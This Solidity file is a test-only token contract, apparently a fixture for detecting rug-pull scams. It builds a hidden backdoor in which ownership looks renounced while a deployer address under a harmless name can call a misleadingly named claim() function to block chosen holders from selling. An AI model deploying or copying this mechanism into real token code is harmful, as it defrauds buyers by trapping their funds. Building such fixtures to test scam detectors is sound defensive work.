// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {TrapPairToken} from "./TrapPairToken.sol";

/**
 * @title TrapHolderFreezeToken
 * @notice Test only: a trap aimed at people who already hold the token, shaped like the public
 * rug pulls it stands for. Ownership is renounced (owner() reads 0x0), but an address kept from the
 * deployment in a variable with a harmless name still calls `claim(address[],bool)`, which marks
 * the listed holders so that they can no longer send to the pool: a fresh buyer can buy and sell,
 * every holder marked after their buy cannot. No function name any list of powers knows.
 */
contract TrapHolderFreezeToken is TrapPairToken {
    address private immutable _rewards;
    mapping(address account => bool) private _claimed;

    error TrapNotRewards();
    error TrapClaimPending(address account);

    constructor(uint256 supply, address factory, address wrappedNative)
        TrapPairToken("Trap Claim", "TCL", supply, factory, wrappedNative)
    {
        _rewards = msg.sender;
    }

    /// @notice "Claims" for `accounts`: in truth, stops them selling.
    function claim(address[] calldata accounts, bool on) external {
        if (msg.sender != _rewards) revert TrapNotRewards();
        for (uint256 i; i < accounts.length; ++i) {
            _claimed[accounts[i]] = on;
        }
    }

    function _update(address from, address to, uint256 value) internal override {
        if (to == pair && _claimed[from]) revert TrapClaimPending(from);
        super._update(from, to, value);
    }
}
